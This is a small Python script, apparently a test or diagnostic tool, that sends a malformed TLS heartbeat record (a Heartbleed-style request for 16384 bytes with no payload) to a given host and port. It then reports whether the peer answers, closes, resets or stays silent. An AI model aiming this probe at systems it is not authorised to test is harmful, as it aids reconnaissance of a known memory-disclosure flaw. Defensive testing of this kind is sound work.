#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Sends a heartbleed probe, and says what came of it: broken.py ADDRESS PORT SECONDS [SOURCE]."""

import socket
import sys

# A heartbeat request that asks for 16384 bytes and brings none.
PROBE = bytes.fromhex("1803020003014000")


def main(address: str, port: str, seconds: str, source: str = "") -> str:
    """Whether the connection was reset, closed or answered, or nothing happened for so long."""
    local = (source, 0) if source else None
    with socket.create_connection((address, int(port)), 60, local) as connection:
        connection.settimeout(float(seconds))
        connection.sendall(PROBE)
        try:
            return "answered" if connection.recv(1) else "closed"
        except ConnectionResetError:
            return "reset"
        except TimeoutError:
            return "silence"


if __name__ == "__main__":
    print(main(*sys.argv[1:]))
